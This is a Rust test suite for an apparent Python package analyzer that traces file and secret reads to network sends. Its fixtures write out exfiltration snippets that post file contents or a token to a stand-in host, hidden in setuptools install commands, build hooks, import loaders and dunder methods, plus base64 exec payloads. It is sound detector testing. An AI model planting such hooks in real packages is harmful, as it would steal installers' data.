//! What the engines follow of classes and of functions that are handed on, told by `sluice dev` and by verdicts.

use crate::place::Place;

/// The paths of one file.
fn paths(text: &str) -> String {
    Place::new().file("one.py", text).run(&["dev", "paths", "one.py"]).stdout
}

/// The review of a package as JSON.
fn review(files: &[(&str, &str)]) -> serde_json::Value {
    let mut place = Place::new();
    for (name, text) in files {
        place = place.file(&format!("pkg/{name}"), text);
    }
    serde_json::from_str(&place.run(&["review", "pkg", "--format", "json", "--fail-on", "none"]).stdout).unwrap()
}

/// The files whose content is sent, with the entry points that reach it.
fn sent(files: &[(&str, &str)]) -> Vec<(String, Vec<String>)> {
    let review = review(files);
    let paths = review["paths"].as_array().unwrap().iter();
    let mut sent: Vec<(String, Vec<String>)> = paths
        .filter(|path| path["sink"]["kind"] == "network.send" && path["source"]["kind"] == "file")
        .map(|path| {
            let entry = path["entry"].as_array().unwrap().iter().map(|entry| entry.as_str().unwrap().to_owned());
            (path["source"]["detail"].as_str().unwrap_or_default().to_owned(), entry.collect())
        })
        .collect();
    sent.sort();
    sent
}

/// A field that another place writes, or changes, decides no branch: what stands behind it runs.
#[test]
fn a_field_that_others_write_decides_nothing() {
    let paths = paths(
        r#"import requests


def post(text):
    requests.post('https://files.example.invalid/a', data=text)


class B:
    mode = False

    def __init__(self):
        self.n = 0
        self.items = []
        self.m = 0

    def ship(self):
        if not self.n:
            return
        post(open('/srv/a').read())

    def ship2(self):
        for item in self.items:
            post(open('/srv/b').read())

    def ship3(self):
        if self.m > 3:
            post(open('/srv/c').read())

    def ship4(self):
        if self.mode:
            post(open('/srv/d').read())

    @classmethod
    def up(cls):
        b = B()
        b.m += 1


class C(B):
    mode = True


def add(items):
    items.append(1)


b = B()
b.n = 1
add(b.items)
b.ship()
"#,
    );
    for file in ["a", "b", "c", "d"] {
        assert!(paths.contains(&format!("builtins.file.read(/srv/{file}) -> network.send")), "{file}\n{paths}");
    }
    // What nobody writes decides: what it excludes is read aside, and told with the condition.
    let text = "import requests\n\nclass B:\n    def __init__(self):\n        self.never = 0\n\n    def ship(self):\n        if self.never:\n            requests.post('https://files.example.invalid/a', data=open('/srv/a').read())\n";
    assert!(self::paths(text).contains("network.send"));
    let place = Place::new().file("never.py", text);
    let review = place.run(&["review", "never.py", "--format", "json", "--fail-on", "none"]).json();
    let guard = &review["paths"][0]["guards"][0];
    assert_eq!((guard["text"].as_str(), guard["holds"].as_bool()), (Some("self.never"), Some(true)), "{review}");
}

/// A method does what the methods of the classes below make of it, and what it is handed tells which one is meant.
#[test]
fn a_method_of_a_subclass_is_called_by_the_base() {
    let paths = paths(
        r#"import requests

U = 'https://files.example.invalid/a'


class B:
    def run(self):
        requests.post(U, data=self.collect())

    def again(self):
        requests.post(U, data=self.later)

    def load(self):
        self.later = open('/srv/later').read()


class P(B):
    def collect(self):
        return open('/srv/key').read()


class Src:
    def get(self):
        return open('/srv/src').read()


class Dst:
    def put(self, text):
        requests.post(U, data=text)


def move(a, b):
    b.put(a.get())


P().run()
move(Src(), Dst())
"#,
    );
    for file in ["key", "later", "src"] {
        assert!(paths.contains(&format!("builtins.file.read(/srv/{file}) -> network.send")), "{file}\n{paths}");
    }
}

/// Functions that are kept in a list, a table, a field or a closure are called from there.
#[test]
fn a_function_that_is_kept_is_called() {
    let paths = paths(
        r#"import requests
from collections import defaultdict

subs = []


def on(fn):
    subs.append(fn)


def tell(text):
    requests.post('https://files.example.invalid/a', data=text)


on(tell)


def fire():
    for f in subs:
        f(open('/srv/a').read())


H = {}


def op(name):
    def deco(fn):
        H[name] = fn
        return fn
    return deco


@op('x')
def tell2(text):
    requests.post('https://files.example.invalid/b', data=text)


def fire2(name):
    H.get(name)(open('/srv/b').read())


class Box:
    def set(self, fn):
        self.fn = fn

    def go(self):
        self.fn(open('/srv/c').read())


def tell3(text):
    requests.post('https://files.example.invalid/c', data=text)


box = Box()
box.set(tell3)
box.go()


class Bus:
    def __init__(self):
        self._subs = defaultdict(list)

    def on(self, topic):
        def add(fn):
            self._subs[topic].append(fn)
            return fn
        return add

    def emit(self, topic, *args, **kw):
        for fn in self._subs[topic]:
            fn(*args, **kw)


default = Bus()


@default.on("ready")
def look():
    with open('/srv/d') as fh:
        default.emit("found", fh.read())


@default.on("found")
def tell4(text):
    requests.post('https://files.example.invalid/d', data=text)


default.emit("ready")


def pipe(*fns):
    def inner(x):
        for f in fns:
            x = f(x)
        return x
    return inner


def tell5(text):
    requests.post('https://files.example.invalid/e', data=text)


pipe(str.encode, tell5)(open('/srv/e').read())
"#,
    );
    for file in ["a", "b", "c", "d", "e"] {
        assert!(paths.contains(&format!("builtins.file.read(/srv/{file}) -> network.send")), "{file}\n{paths}");
    }
}

/// A name that is known in part means every function that fits.
#[test]
fn a_name_that_is_known_in_part_finds_its_functions() {
    let paths = paths(
        r#"import requests


class A:
    def do_send(self, text):
        requests.post('https://files.example.invalid/a', data=text)

    def run(self, k):
        getattr(self, "do_" + k)(open('/srv/a').read())


def op_send(text):
    requests.post('https://files.example.invalid/b', data=text)


def run(k):
    globals()["op_" + k](open('/srv/b').read())
"#,
    );
    for file in ["a", "b"] {
        assert!(paths.contains(&format!("builtins.file.read(/srv/{file}) -> network.send")), "{file}\n{paths}");
    }
}

/// What the language or a library calls by itself is reached by who makes it do so.
#[test]
fn what_is_called_without_a_call_is_reached() {
    let project = "[project]\nname = 'one'\nversion = '1'\n";
    let text = r#"import multiprocessing
import threading
from dataclasses import dataclass, field

import requests


def post(name):
    requests.post('https://files.example.invalid/a', data=open(name).read())


class S(threading.Thread):
    def run(self):
        requests.post('https://files.example.invalid/a', data=open('/srv/1').read())


S().start()


class T(multiprocessing.Process):
    def __init__(self):
        super().__init__()
        self.start()

    def run(self):
        requests.post('https://files.example.invalid/a', data=open('/srv/2').read())


T()


@dataclass
class D:
    a: str = 'x'

    def __post_init__(self):
        requests.post('https://files.example.invalid/a', data=open('/srv/3').read())


D()


class W:
    async def __aenter__(self):
        requests.post('https://files.example.invalid/a', data=open('/srv/4').read())

    async def __aexit__(self, *rest):
        requests.post('https://files.example.invalid/a', data=open('/srv/5').read())


async def main():
    async with W():
        pass


class P:
    @property
    def x(self):
        return 1

    @x.setter
    def x(self, value):
        requests.post('https://files.example.invalid/a', data=open('/srv/6').read())


P().x = 3


class G:
    def __get__(self, obj, owner=None):
        requests.post('https://files.example.invalid/a', data=open('/srv/7').read())


class O:
    g = G()


O().g


def make():
    requests.post('https://files.example.invalid/a', data=open('/srv/8').read())
    return []


@dataclass
class F:
    a: list = field(default_factory=make)


F()


class M(type):
    def __init__(cls, name, bases, ns):
        requests.post('https://files.example.invalid/a', data=open('/srv/9').read())


class X(metaclass=M):
    pass
"#;
    let sent = sent(&[("pyproject.toml", project), ("one/__init__.py", text)]);
    for number in 1..=9 {
        let file = format!("/srv/{number}");
        let found = sent.iter().find(|(name, _)| *name == file);
        assert!(found.is_some(), "{file} {sent:?}");
        // An asynchronous context stands in a function that nobody calls.
        let reached = !matches!(number, 4 | 5);
        assert_eq!(found.is_some_and(|(_, entry)| entry == &["import"]), reached, "{file} {sent:?}");
    }
}

/// What an instance, a member of an enumeration or a record holds is known where it is used.
#[test]
fn what_an_instance_holds_is_evaluated() {
    let text = r#"from base64 import b64decode
import os
from enum import Enum
from dataclasses import dataclass
from collections import namedtuple
from types import SimpleNamespace


class D:
    def __init__(s, r):
        s.r = r

    def dec(s):
        return b64decode(s.r)


exec(D("aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyBvbmUnKQ==").dec())


class E(Enum):
    A = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyB0d28nKQ=='


exec(b64decode(E.A.value))


@dataclass
class R:
    a: str
    b: str = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyB0aHJlZScp'


exec(b64decode(R('x').b))


class Q(R):
    c = 1


exec(b64decode(Q('x', 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyBzaXgnKQ==').b))

N = namedtuple('N', 'a b')
exec(b64decode(N(1, 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyBmb3VyJyk=').b))
S = SimpleNamespace(a='aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyBmaXZlJyk=')
exec(b64decode(S.a))
"#;
    let layers = Place::new().file("one.py", text).run(&["dev", "layers", "one.py"]).stdout;
    for word in ["one", "two", "three", "four", "five", "six"] {
        assert!(layers.contains(&format!("echo {word}")), "{word}\n{layers}");
    }
}

/// Commands that are made, replaced or kept in a table that is not known are the installer's too.
#[test]
fn a_command_of_the_installer_is_found_however_it_is_given() {
    let send = "requests.post('https://files.example.invalid/a', data=open('/srv/a').read())";
    let head = "import requests\nfrom setuptools import Command, Distribution, setup\nfrom setuptools.command.develop import develop\nfrom setuptools.command.install import install\n\n";
    let made = format!(
        "def hook(base):\n    class Made(base):\n        def run(self):\n            {send}\n    return Made\n\nsetup(name='one', cmdclass={{c.__name__: hook(c) for c in (install, develop)}})\n"
    );
    let called = format!(
        "def run(self):\n    {send}\n\nsetup(name='one', cmdclass={{'install': type('I', (install,), {{'run': run}})}})\n"
    );
    let replaced = format!("def run(self):\n    {send}\n\ninstall.run = run\nsetup(name='one')\n");
    let table = format!(
        "import tables\n\nclass Info(Command):\n    def run(self):\n        {send}\n\nsetup(name='one', cmdclass=tables.of(Info))\n"
    );
    let dist = format!(
        "class Dist(Distribution):\n    def run_commands(self):\n        {send}\n\nsetup(name='one', distclass=Dist)\n"
    );
    let inherited = format!(
        "class Base(install):\n    def run(self):\n        {send}\n\nsetup(name='one', cmdclass={{'install': type('I', (Base,), {{}})}})\n"
    );
    let filled = format!(
        "import types\n\ndef run(self):\n    {send}\n\ndef fill(names):\n    names['run'] = run\n\nsetup(name='one', cmdclass={{'install': types.new_class('I', (install,), {{}}, fill)}})\n"
    );
    let by_class = format!(
        "class Maker(type):\n    pass\n\ndef run(self):\n    {send}\n\nsetup(name='one', cmdclass={{'install': Maker('I', (install,), dict(run=run))}})\n"
    );
    let by_type = format!(
        "def run(self):\n    {send}\n\ndef of(base):\n    return type(base)(base.__name__, (base,), {{'run': run}})\n\nsetup(name='one', cmdclass={{'develop': of(develop)}})\n"
    );
    let inside = format!(
        "from setuptools.command.build_ext import build_ext\n\nclass Build(build_ext):\n    def build_extension(self, ext):\n        {send}\n\nsetup(name='one', cmdclass={{'build_ext': Build}})\n"
    );
    let unknown = format!(
        "import makers\n\ndef of(base):\n    def run(self):\n        {send}\n    return makers.command(base, run=run)\n\nsetup(name='one', cmdclass={{'install': of(install)}})\n"
    );
    for text in [made, called, replaced, table, dist, unknown, inherited, filled, by_class, by_type, inside] {
        let sent = sent(&[("setup.py", &format!("{head}{text}"))]);
        assert_eq!(sent, [("/srv/a".to_owned(), vec!["install".to_owned()])], "{text}");
    }
    // A command that somebody has to ask for.
    let asked = format!(
        "{head}class Upload(Command):\n    def run(self):\n        {send}\n\nsetup(name='one', cmdclass={{'upload_log': Upload}})\n"
    );
    let sent = sent(&[("setup.py", &asked)]);
    assert_eq!(sent, [("/srv/a".to_owned(), vec!["run".to_owned()])]);
}

/// The import system calls what is put into its lists, whatever puts it there, and executes what a loader brings.
#[test]
fn loaders_run_when_the_import_system_has_them() {
    let head =
        "import importlib.abc\nimport importlib.machinery\nimport importlib.util\nimport sys\nimport requests\n\n";
    let send = "requests.post('https://files.example.invalid/a', data=open('/srv/a').read())";
    let finder = format!(
        "class Finder:\n    def find_spec(self, name, path=None, target=None):\n        return importlib.util.spec_from_loader(name, self)\n\n    def exec_module(self, module):\n        {send}\n\n"
    );
    let old = format!(
        "class Finder:\n    def find_module(self, name, path=None):\n        return self\n\n    def load_module(self, name):\n        {send}\n\n"
    );
    let source = format!(
        "class Loader(importlib.machinery.SourceFileLoader):\n    def get_data(self, path):\n        {send}\n        return b''\n\n"
    );
    for text in [
        format!("{finder}sys.meta_path.append(Finder())\n"),
        format!("{finder}sys.meta_path += [Finder()]\n"),
        format!("{finder}sys.meta_path[:0] = [Finder()]\n"),
        format!("{old}sys.meta_path.insert(0, Finder())\n"),
        format!(
            "{source}hook = importlib.machinery.FileFinder.path_hook((Loader, ['.py']))\nsys.path_hooks.insert(0, hook)\n"
        ),
        format!("{source}spec = importlib.util.spec_from_loader('a', Loader('a', 'a'))\n"),
    ] {
        let sent = sent(&[
            ("setup.py", "from setuptools import setup\nsetup(name='one', packages=['one'])\n"),
            ("one/__init__.py", &format!("{head}{text}")),
        ]);
        assert_eq!(sent, [("/srv/a".to_owned(), vec!["import".to_owned()])], "{text}");
    }
    let unused = sent(&[
        ("setup.py", "from setuptools import setup\nsetup(name='one', packages=['one'])\n"),
        ("one/__init__.py", &format!("{head}{finder}")),
    ]);
    assert!(unused.iter().all(|(_, when)| when.is_empty()), "{unused:?}");
}

/// What a build tool calls by its name runs when the package is built.
#[test]
fn hooks_of_a_build_tool_run_when_it_builds() {
    let send = "requests.post('https://files.example.invalid/a', data=open('/srv/a').read())";
    let backend = |name: &str| {
        format!(
            "[build-system]\nrequires = []\nbuild-backend = '{name}'\nbackend-path = ['tools']\n\n[project]\nname = 'one'\nversion = '1'\n"
        )
    };
    let plain = format!("import requests\n\ndef build_wheel(folder, settings=None, metadata=None):\n    {send}\n");
    let object = format!(
        "import requests\n\nclass Hooks:\n    def get_requires_for_build_wheel(self, settings=None):\n        {send}\n        return []\n\nhooks = Hooks()\n"
    );
    let hatch = format!(
        "import requests\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\nclass Hook(BuildHookInterface):\n    def initialize(self, version, data):\n        {send}\n"
    );
    let pdm = format!("import requests\n\ndef pdm_build_initialize(context):\n    {send}\n");
    let hatchling = "[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n\n[project]\nname = 'one'\nversion = '1'\n\n[tool.hatch.build.hooks.custom]\n";
    let pdm_backend = "[build-system]\nrequires = ['pdm-backend']\nbuild-backend = 'pdm.backend'\n\n[project]\nname = 'one'\nversion = '1'\n";
    for (project, file, text) in [
        (backend("be"), "tools/be.py", plain),
        (backend("be:hooks"), "tools/be.py", object),
        (hatchling.to_owned(), "hatch_build.py", hatch),
        (pdm_backend.to_owned(), "pdm_build.py", pdm),
    ] {
        let sent = sent(&[("pyproject.toml", &project), (file, &text)]);
        assert!(
            sent.iter().any(|(name, when)| name == "/srv/a" && when.contains(&"build".to_owned())),
            "{file} {sent:?}"
        );
    }
}

/// Honest code of the same shapes is not accused.
#[test]
fn honest_classes_and_commands_are_not_accused() {
    let versions = "from setuptools import Command, setup\nfrom setuptools.command.build_py import build_py\nimport subprocess\n\ndef get_cmdclass(more=None):\n    found = {} if more is None else more.copy()\n    class cmd_build_py(build_py):\n        def run(self):\n            build_py.run(self)\n            text = subprocess.check_output(['git', 'describe', '--tags'])\n            open('one/_version.py', 'w').write('version = %r' % text)\n    found['build_py'] = cmd_build_py\n    return found\n\nclass Test(Command):\n    def run(self):\n        subprocess.call(['pytest', 'tests'])\n\nsetup(name='one', version='1', cmdclass=get_cmdclass({'test': Test}))\n";
    let signals = "import logging\n\nclass Signal:\n    def __init__(self):\n        self.receivers = []\n\n    def connect(self, receiver):\n        self.receivers.append(receiver)\n        return receiver\n\n    def send(self, sender, **named):\n        return [receiver(sender, **named) for receiver in self.receivers]\n\nsaved = Signal()\n\n@saved.connect\ndef log(sender, **named):\n    logging.info('saved %s', sender)\n";
    let workers = "import queue\nimport threading\nimport requests\n\nclass Worker(threading.Thread):\n    def __init__(self, url):\n        super().__init__(daemon=True)\n        self.url = url\n        self.jobs = queue.Queue()\n\n    def run(self):\n        while True:\n            requests.post(self.url, json=self.jobs.get(), timeout=5)\n\ndef client(url):\n    worker = Worker(url)\n    worker.start()\n    return worker\n";
    let dispatch = "import argparse\nimport subprocess\n\nclass Tool:\n    def do_build(self, options):\n        return subprocess.call(['make', 'all'])\n\n    def do_clean(self, options):\n        return subprocess.call(['make', 'clean'])\n\n    def main(self):\n        parser = argparse.ArgumentParser()\n        parser.add_argument('action')\n        options = parser.parse_args()\n        return getattr(self, 'do_' + options.action)(options)\n";
    let setup = "from setuptools import setup\nsetup(name='one', version='1', packages=['one'])\n";
    for files in [
        vec![("setup.py", versions), ("one/__init__.py", "")],
        vec![("setup.py", setup), ("one/__init__.py", signals)],
        vec![("setup.py", setup), ("one/__init__.py", workers)],
        vec![("setup.py", setup), ("one/__init__.py", dispatch)],
    ] {
        let review = review(&files);
        assert_eq!(review["verdict"], "benign", "{files:?}\n{}", review["behaviors"]);
    }
}

/// One place that reads under several names, each in a context of its own, reads several variables.
#[test]
fn a_place_that_reads_under_several_names_is_several_sources() {
    let paths = paths(
        r#"import os
import requests


class Setting:
    def __init__(self, key):
        self.key = key

    def get(self):
        return os.environ.get(self.key)


ORIGIN = Setting('SHIP_ORIGIN')
TOKEN = Setting('SHIP_TOKEN')
print(ORIGIN.get())
requests.post('https://ship.example.invalid/a', data=TOKEN.get())
"#,
    );
    let sent: Vec<&str> = paths.lines().filter(|line| line.contains("network.send")).collect();
    assert!(!sent.is_empty() && sent.iter().all(|line| line.contains("SHIP_TOKEN")), "{paths}");
    assert!(paths.lines().any(|line| line.contains("SHIP_ORIGIN") && line.contains("-> log print")), "{paths}");
}

/// A command that is added to a group of commands runs when the group does.
#[test]
fn a_function_that_is_added_to_another_runs_with_it() {
    let setup = "from setuptools import setup\n\nsetup(name='one', packages=['one'], entry_points={'console_scripts': ['one = one.cli:cli']})\n";
    let cli = |decorator: &str| {
        format!(
            "import click\nimport requests\n\n@click.group()\n@click.option('-f')\ndef cli(f):\n    pass\n\n{decorator}\ndef send():\n    requests.post('https://files.example.invalid/a', data=open('/srv/a').read())\n"
        )
    };
    for (decorator, when) in [
        ("@cli.command('send')", vec!["run".to_owned()]),
        ("@cli.command", vec!["run".to_owned()]),
        ("@click.command()", vec![]),
    ] {
        let found = sent(&[("setup.py", setup), ("one/__init__.py", ""), ("one/cli.py", &cli(decorator))]);
        assert_eq!(found, [("/srv/a".to_owned(), when)], "{decorator}");
    }
}
